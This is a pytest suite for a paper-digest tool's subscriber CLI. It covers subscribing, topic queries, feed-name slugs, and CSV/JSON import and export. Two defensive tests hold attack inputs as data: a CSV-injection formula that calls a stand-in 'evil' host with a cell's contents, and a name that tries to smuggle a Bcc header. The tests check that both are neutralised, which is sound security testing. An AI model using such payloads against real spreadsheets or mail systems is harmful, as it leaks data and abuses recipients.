"""Readers and topics through the CLI, on a real SQLite database."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from paperwire.errors import ValidationError
from paperwire.subscribers import build_subscriber, parse_cadence, parse_topic_spec, slugify


def readers(run_cli) -> list[dict]:
    result = run_cli("subscribers", "--json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_subscribe_makes_an_active_reader_with_the_documented_json_keys(run_cli):
    result = run_cli("subscribe", "Ada@Example.ORG", "--topic", "Scaling=scaling laws", "--topic", "MoE OR RAG",
                     "--cadence", "weekly:fri", "--hour", "7", "--tz", "Europe/Berlin", "--max", "10",
                     "--name", "Ada L.")
    assert result.exit_code == 0, result.output
    assert readers(run_cli) == [{
        "email": "ada@example.org", "name": "Ada L.", "status": "active", "cadence": "weekly:fri", "hour": 7,
        "timezone": "Europe/Berlin", "max": 10,
        "topics": [{"name": "Scaling", "query": "scaling laws"}, {"name": "MoE OR RAG", "query": "MoE OR RAG"}],
        "last_bounce": None,
    }]


def test_defaults_are_daily_at_8_utc_with_15_papers(run_cli):
    run_cli("subscribe", "bob@example.org", "--topic", "diffusion")
    (bob,) = readers(run_cli)
    assert (bob["cadence"], bob["hour"], bob["timezone"], bob["max"]) == ("daily", 8, "UTC", 15)


def test_subscribing_again_updates_and_never_adds_a_second_row(run_cli):
    run_cli("subscribe", "ada@example.org", "--topic", "scaling laws", "--tz", "Europe/Berlin")
    result = run_cli("subscribe", "ADA@example.org", "--hour", "9")
    assert result.exit_code == 0 and "Updated" in result.stdout
    (ada,) = readers(run_cli)
    assert ada["hour"] == 9 and ada["timezone"] == "Europe/Berlin"  # kept what was not given
    assert ada["topics"] == [{"name": "scaling laws", "query": "scaling laws"}]
    run_cli("subscribe", "ada@example.org", "--topic", "RAG")
    assert [t["query"] for t in readers(run_cli)[0]["topics"]] == ["RAG"]  # topics replaced


def test_unsubscribe(run_cli):
    run_cli("subscribe", "ada@example.org", "--topic", "RAG")
    assert run_cli("unsubscribe", "Ada@example.org").exit_code == 0
    assert readers(run_cli)[0]["status"] == "unsubscribed"
    missing = run_cli("unsubscribe", "nobody@example.org")
    assert missing.exit_code == 1 and "no reader" in missing.stderr


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["not-an-email", "--topic", "x"], "email: 'not-an-email' is not a valid address"),
        (["a@example.org"], "at least one topic"),
        (["a@example.org", "--topic", '"unbalanced'], "at position 0"),
        (["a@example.org", "--topic", "(a OR b"], "topic:"),
        (["a@example.org", "--topic", "-only"], "nothing to match"),
        (["a@example.org", "--topic", "x", "--cadence", "hourly"], "cadence: 'hourly'"),
        (["a@example.org", "--topic", "x", "--hour", "24"], "hour: 24"),
        (["a@example.org", "--topic", "x", "--tz", "Mars/Olympus"], "timezone: 'Mars/Olympus'"),
        (["a@example.org", "--topic", "x", "--max", "0"], "max: 0"),
        (["a@example.org", "--topic", "x", "--topic", "x"], "two topics are named"),
        (["a@example.org", "--follow", "nope"], "no public topic named 'nope'"),
    ],
)
def test_bad_subscribe_input_is_a_clear_error_and_stores_nothing(run_cli, args, message):
    result = run_cli("subscribe", *args)
    assert result.exit_code != 0
    assert message in result.stderr
    assert readers(run_cli) == []


def test_public_topics_can_be_followed_by_name(run_cli):
    assert run_cli("topics", "add", "Trending", "*").exit_code == 0
    assert run_cli("topics", "add", "Mixture of experts", 'MoE OR "sparse experts"').exit_code == 0
    listed = json.loads(run_cli("topics", "--json").stdout)
    assert listed == [{"name": "Mixture of experts", "slug": "mixture-of-experts", "query": 'MoE OR "sparse experts"'},
                      {"name": "Trending", "slug": "trending-topic", "query": "*"}]
    run_cli("subscribe", "ada@example.org", "--follow", "trending", "--topic", "RAG")
    assert readers(run_cli)[0]["topics"] == [{"name": "RAG", "query": "RAG"}, {"name": "Trending", "query": "*"}]
    refused = run_cli("topics", "remove", "Trending")
    assert refused.exit_code == 1 and "1 reader(s) follow" in refused.stderr
    assert run_cli("topics", "remove", "Trending", "--force").exit_code == 0
    assert readers(run_cli)[0]["topics"] == [{"name": "RAG", "query": "RAG"}]


@pytest.mark.parametrize("name", ["مهدی\u200cزاده", "Ada \U0001F469\u200d\U0001F469\u200d\U0001F467"])
def test_names_keep_their_zero_width_joiners_and_lose_controls(name):
    """ZWNJ is part of Persian words and ZWJ of emoji sequences: a name keeps them, while
    line breaks, NUL and bidi overrides still go."""
    from paperwire.subscribers import clean_name

    assert clean_name(name) == name
    assert clean_name(f"{name}\r\nBcc: x\x00\u202e") == f"{name} Bcc: x"


@pytest.mark.parametrize("query", ["the of and", "a", "the -video", "meaning: in the", "the OR (of -zebra)",
                                   "the OR RAG", "RAG OR of", "RAG OR (the -zebra)"])
def test_a_topic_of_only_common_words_is_refused_when_saved(query):
    """"the of and" matched 48 of 102 papers and "a" 100: nothing in it tells papers apart."""
    from paperwire.subscribers import make_topic

    with pytest.raises(ValidationError, match="has only common words"):
        make_topic(None, query)


@pytest.mark.parametrize("query", ["IT", "the transformer", "like:2403.06212", "*", "US -the", "author:He",
                                   '"to be or not to be"', "title:the"])
def test_a_topic_with_one_content_word_or_an_example_is_kept(query):
    from paperwire.subscribers import make_topic

    assert make_topic(None, query).query == query


def test_the_caret_under_a_bad_topic_counts_wide_characters_as_two_columns():
    """Terminals draw CJK and most emoji two columns wide: the caret stood left of the bad character."""
    from paperwire.subscribers import make_topic

    with pytest.raises(ValidationError) as raised:
        make_topic(None, '推理模型 OR "x')
    *_, line, caret = str(raised.value).split("\n")
    assert line == '  推理模型 OR "x' and caret == "  " + " " * 12 + "^"  # 4 wide characters, then " OR "


@pytest.mark.parametrize("spec, name, query", [
    ('title:"x=y" RAG', 'title:"x=y" RAG', 'title:"x=y" RAG'),  # an "=" inside a phrase is the query's
    ('(a=b OR RAG)', '(a=b OR RAG)', '(a=b OR RAG)'),
    ("Routing = MoE routing", "Routing", "MoE routing"),
    ('Papers = "x=y" RAG', "Papers", '"x=y" RAG'),
    # what the manage form shows a topic as ("NAME = QUERY") must read back as it was
    ("Agents (tool use) = agents tools", "Agents (tool use)", "agents tools"),
    ('"Scaling laws" = "scaling laws"', '"Scaling laws"', '"scaling laws"'),
])
def test_a_topic_spec_splits_its_name_at_the_first_equals_sign_outside_the_query(spec, name, query):
    """``--topic 'title:"x=y" RAG'`` was refused ("unbalanced quote at position 1 of 'y" RAG'"),
    though ``match`` takes the same topic."""
    from paperwire.subscribers import parse_topic_spec

    topic = parse_topic_spec(spec)
    assert (topic.name, topic.query) == (name, query)


def test_public_topics_named_in_other_scripts_get_a_feed_name(run_cli):
    """Русский or 中文 are letters that slugify cannot spell in ASCII: they were refused as
    having no letter or digit; such a name now gets a feed name of its own."""
    for name in ("Русский", "中文"):
        assert run_cli("topics", "add", name, "zeta").exit_code == 0, name
    slugs = [topic["slug"] for topic in json.loads(run_cli("topics", "--json").stdout)]
    assert len(set(slugs)) == 2 and all(slug.startswith("topic-") for slug in slugs)
    assert run_cli("topics", "add", "!!!", "zeta").exit_code == 1
    for name in ("Русский NLP", "中文 NLP"):  # not both "nlp"
        assert run_cli("topics", "add", name, "zeta").exit_code == 0, name
    assert run_cli("topics", "add", "Café", "zeta").exit_code == 0  # spelt in ASCII: "cafe"
    slugs = [topic["slug"] for topic in json.loads(run_cli("topics", "--json").stdout)]
    assert len(set(slugs)) == 5 and sum(slug.startswith("nlp-") for slug in slugs) == 2 and "cafe" in slugs


def test_public_topic_names_must_give_distinct_feed_names(run_cli):
    run_cli("topics", "add", "Scaling laws", "scaling laws")
    clash = run_cli("topics", "add", "scaling-laws!", "x")
    assert clash.exit_code == 1 and "share the feed name" in clash.stderr


@pytest.mark.parametrize("suffix", ["json", "csv"])
def test_export_then_import_round_trips(run_cli, new_db, tmp_path, suffix):
    run_cli("subscribe", "ada@example.org", "--topic", 'Scaling="scaling laws", MoE', "--name", 'Ada "the" L., Jr')
    run_cli("subscribe", "bob@example.org", "--topic", "RAG", "--topic", "title:diffusion -video",
            "--cadence", "weekly:mon", "--tz", "Asia/Tokyo")
    before = readers(run_cli)
    exported = tmp_path / f"readers.{suffix}"
    assert run_cli("subscribers", "export", "-o", exported).exit_code == 0
    other_db = new_db(tmp_path / "other.db")
    result = run_cli("--db", other_db, "subscribers", "import", exported, db=False)
    assert result.exit_code == 0, result.output
    again = json.loads(run_cli("--db", other_db, "subscribers", "--json", db=False).stdout)
    assert again == before


def _readers_file(path, topics: list[dict]) -> None:
    """Ada's row(s) with ``topics``, in the format the file's suffix names."""
    if path.suffix == ".json":
        path.write_text(json.dumps([{"email": "Ada@example.org", "name": "Ada", "topics": topics}]), encoding="utf-8")
    else:
        path.write_text("email,name,status,cadence,hour,timezone,max,topic_name,topic_query\n" + "".join(
            f"Ada@example.org,Ada,active,daily,8,UTC,15,{t['name']},{t['query']}\n" for t in topics), encoding="utf-8")


@pytest.mark.parametrize("suffix", ["csv", "json"])
def test_an_import_keeps_a_readers_likes_unless_the_file_gives_the_liked_list(run_cli, store, tmp_path, suffix):
    """A file without the Liked list (made before the reader liked a paper, or by hand) left them
    with no likes; as ``subscribe --topic`` does, import keeps it. A file with a topic named Liked
    sets exactly that list, and an export (which carries it) imports back unchanged."""
    from paperwire import liked

    assert run_cli("subscribe", "ada@example.org", "--topic", "RAG").exit_code == 0
    reader_id = store.subscriber("ada@example.org").id
    for paper_id in ("2403.12345", "2402.00001"):
        store.rewrite_own_topic(reader_id, liked.NAME, liked.SLUG,
                                liked.rewrite(lambda ids: liked.with_like(ids, paper_id)))
    likes = {"name": "Liked", "query": "like:2402.00001 OR like:2403.12345"}
    without = tmp_path / f"without.{suffix}"
    _readers_file(without, [{"name": "MoE", "query": "MoE"}])
    result = run_cli("subscribers", "import", without)
    assert result.exit_code == 0 and "1 updated" in result.stdout, result.output
    assert readers(run_cli)[0]["topics"] == [{"name": "MoE", "query": "MoE"}, likes]
    exported = tmp_path / f"exported.{suffix}"
    assert run_cli("subscribers", "export", "-o", exported).exit_code == 0
    before = readers(run_cli)
    assert run_cli("subscribers", "import", exported).exit_code == 0
    assert readers(run_cli) == before
    given = tmp_path / f"given.{suffix}"
    _readers_file(given, [{"name": "MoE", "query": "MoE"}, {"name": "liked", "query": "like:2401.00001"}])
    assert run_cli("subscribers", "import", given).exit_code == 0
    assert readers(run_cli)[0]["topics"] == [{"name": "MoE", "query": "MoE"},
                                             {"name": "liked", "query": "like:2401.00001"}]
    assert liked.liked_ids(store.subscriber("ada@example.org")) == ("2401.00001",)


def test_exported_csv_cells_never_start_a_formula_and_import_back_as_written(run_cli, new_db, tmp_path):
    """A name from the sign-up form such as =HYPERLINK(...) would run in a spreadsheet that
    opens the export (CSV injection): such cells are written after a ', and imported without."""
    name = '=HYPERLINK("http://evil/?"&A1;"x")'
    assert run_cli("subscribe", "eve@example.org", "--name", name, "--topic", "@home=-video diffusion",
                   "--topic", "+plus=scaling", "--topic", "'quoted=scaling").exit_code == 0
    before = readers(run_cli)
    exported = tmp_path / "readers.csv"
    assert run_cli("subscribers", "export", "-o", exported).exit_code == 0
    cells = [cell for row in csv.reader(exported.read_text(encoding="utf-8").splitlines()) for cell in row]
    assert not [cell for cell in cells if cell and cell[0] in "=+-@"] and "''quoted" in cells
    assert "'=HYPERLINK(\"http://evil/?\"&A1;\"x\")" in cells and "'-video diffusion" in cells and "'@home" in cells
    other = new_db(tmp_path / "other.db")
    assert run_cli("--db", other, "subscribers", "import", exported, db=False).exit_code == 0
    again = json.loads(run_cli("--db", other, "subscribers", "--json", db=False).stdout)
    assert again == before


def test_a_bad_import_row_names_file_line_and_field_and_imports_nothing(run_cli, tmp_path):
    bad = tmp_path / "readers.csv"
    bad.write_text("email,name,status,cadence,hour,timezone,max,topic_name,topic_query\n"
                   "ada@example.org,Ada,active,daily,8,UTC,15,RAG,RAG\n"
                   "bob@example.org,Bob,active,daily,25,UTC,15,RAG,RAG\n")
    result = run_cli("subscribers", "import", bad)
    assert result.exit_code == 1
    assert f"{bad}:3: hour: 25" in result.stderr
    assert readers(run_cli) == []


@pytest.mark.parametrize("suffix", ["csv", "json"])
def test_an_import_that_is_not_utf8_names_file_and_line_and_imports_nothing(run_cli, tmp_path, suffix):
    latin1 = tmp_path / f"readers.{suffix}"
    text = ("email,name,status,cadence,hour,timezone,max,topic_name,topic_query\r\n"
            "zoe@example.org,Zo\u00eb,active,daily,8,UTC,5,T,zeta\r\n") if suffix == "csv" else (
            '[{"email": "zoe@example.org",\n  "name": "Zo\u00eb", "topics": [{"name": "T", "query": "zeta"}]}]')
    latin1.write_bytes(text.encode("latin-1"))
    offset = text.index("\u00eb")
    result = run_cli("subscribers", "import", latin1)
    assert result.exit_code == 1
    assert result.stderr == (f"Error: {latin1}:2: encoding: not UTF-8 text (byte 0xeb at offset {offset}); "
                             "save the file as UTF-8\n")
    assert readers(run_cli) == []
    latin1.write_bytes(b"\xef\xbb\xbf" + text.encode("latin-1"))  # offsets are the file's, BOM and all
    assert f"at offset {offset + 3})" in run_cli("subscribers", "import", latin1).stderr
    latin1.write_bytes(b"\xef\xbb\xbf" + text.encode())  # UTF-8 as spreadsheets save it, BOM first
    assert run_cli("subscribers", "import", latin1).exit_code == 0
    assert [r["name"] for r in readers(run_cli)] == ["Zo\u00eb"]


def test_import_json_errors(run_cli, tmp_path):
    broken = tmp_path / "r.json"
    broken.write_text('[{"email": "a@example.org",\n "topics": [}]')
    result = run_cli("subscribers", "import", broken)
    assert result.exit_code == 1 and f"{broken}:2" in result.stderr
    wrong = tmp_path / "w.json"
    wrong.write_text('[{"email": "a@example.org", "topics": [{"name": "x", "query": "(x"}]}]')
    result = run_cli("subscribers", "import", wrong)
    assert result.exit_code == 1 and "reader 1: topic:" in result.stderr


def test_names_cannot_smuggle_header_lines():
    reader = build_subscriber("a@example.org", name="Eve\r\nBcc: victim@example.org", topics=[parse_topic_spec("x")])
    assert "\r" not in reader.name and "\n" not in reader.name


def test_cadence_and_slug_rules():
    assert parse_cadence("Weekly:Friday") == "weekly:fri"
    assert parse_cadence("weekly") == "weekly:mon"
    with pytest.raises(ValidationError):
        parse_cadence("weekly:funday")
    assert slugify("Scaling Laws: LLMs & MoE!") == "scaling-laws-llms-moe"
    assert parse_topic_spec("RAG") .name == "RAG"
    assert parse_topic_spec("Retrieval = RAG OR retrieval").query == "RAG OR retrieval"


def test_a_readers_later_row_may_not_change_their_settings(run_cli, tmp_path):
    """Later rows of a reader add topics; one that says another cadence or hour is an error
    naming its line (the first row used to win without a word), and nothing is imported."""
    rows = tmp_path / "readers.csv"
    rows.write_text("email,name,status,cadence,hour,timezone,max,topic_name,topic_query\n"
                    "ada@example.org,Ada,active,daily,8,UTC,15,RAG,RAG\n"
                    "ada@example.org,,,,,,,MoE,MoE\n"
                    "ada@example.org,Ada,active,weekly:mon,9,UTC,15,Agents,agents\n")
    result = run_cli("subscribers", "import", rows)
    assert result.exit_code == 1 and readers(run_cli) == []
    assert f"{rows}:4: cadence: 'weekly:mon' differs from 'daily' on line 2" in result.stderr
    rows.write_text(rows.read_text().replace("weekly:mon,9", "daily,8"))  # repeated as they are: fine
    assert run_cli("subscribers", "import", rows).exit_code == 0
    assert [t["name"] for t in readers(run_cli)[0]["topics"]] == ["RAG", "MoE", "Agents"]


@pytest.mark.parametrize("readers_json, message", [
    ('[{"emial": "a@example.org", "topics": [{"name": "x", "query": "x"}]}]', "reader 1: emial: unknown key"),
    ('[{"email": "a@example.org", "topics": [{"name": "x", "query": 5}]}]',
     "reader 1: topics[1].query: expected text, got a number"),
])
def test_a_json_reader_with_an_unknown_key_or_a_topic_not_in_text_is_an_error(run_cli, tmp_path, readers_json, message):
    """A misspelt key was dropped, and a query of 5 became the topic "5", without a word."""
    path = tmp_path / "r.json"
    path.write_text(readers_json)
    result = run_cli("subscribers", "import", path)
    assert result.exit_code == 1 and message in result.stderr


def test_export_to_dash_is_stdout_and_a_csv_of_another_name_imports(run_cli, tmp_path):
    """``-o -`` wrote a file named "-"; a CSV saved as readers.txt was read as JSON."""
    assert run_cli("subscribe", "ada@example.org", "--topic", "RAG").exit_code == 0
    result = run_cli("subscribers", "export", "--format", "csv", "-o", "-")
    assert result.stdout.startswith("email,name,") and not (Path.cwd() / "-").exists()
    as_text = tmp_path / "readers.txt"
    as_text.write_text(result.stdout.replace("ada@", "bob@"))
    assert run_cli("subscribers", "import", as_text).exit_code == 0
    assert sorted(r["email"] for r in readers(run_cli)) == ["ada@example.org", "bob@example.org"]


def test_what_subscribers_json_prints_imports_back(run_cli, tmp_path):
    """The import reads what ``subscribers --json`` prints (its last_bounce too, which it ignores)."""
    assert run_cli("subscribe", "ada@example.org", "--topic", "RAG").exit_code == 0
    printed = tmp_path / "printed.json"
    printed.write_text(run_cli("subscribers", "--json").stdout)
    assert "last_bounce" in printed.read_text() and run_cli("subscribers", "import", printed).exit_code == 0


@pytest.mark.parametrize("suffix", ["csv", "json"])
def test_an_import_names_every_bad_row_at_once_and_imports_nothing(run_cli, tmp_path, suffix):
    """A file with three bad rows took three runs to fix: the first error ended the import."""
    rows = [("ada@example.org", "RAG"), ("bad-address", "LLM"), ("cy@example.org", "(unbalanced"),
            ("dee@example.org", "agents"), ("eve@example.org", "-survey")]
    path = tmp_path / f"readers.{suffix}"
    if suffix == "csv":
        path.write_text("email,topic_name,topic_query\n" + "".join(f"{email},T,{query}\n" for email, query in rows))
        places = [f"{path}:3: email", f"{path}:4: topic", f"{path}:6: topic"]
    else:
        path.write_text(json.dumps([{"email": email, "topics": [{"name": "T", "query": query}]} for email, query in rows]))
        places = [f"{path}: reader 2: email", f"{path}: reader 3: topic", f"{path}: reader 5: topic"]
    result = run_cli("subscribers", "import", path)
    assert result.exit_code == 1 and readers(run_cli) == []
    assert f"{path}: rows: 3 bad, nothing imported:" in result.stderr
    found = [result.stderr.index(place) for place in places]
    assert found == sorted(found), result.stderr
    many = tmp_path / "many.csv"
    many.write_text("email,topic_name,topic_query\n" + "".join(f"bad{n},T,x\n" for n in range(30)))
    result = run_cli("subscribers", "import", many)
    assert "30 bad" in result.stderr and "... and 10 more" in result.stderr and f"{many}:22: email" not in result.stderr
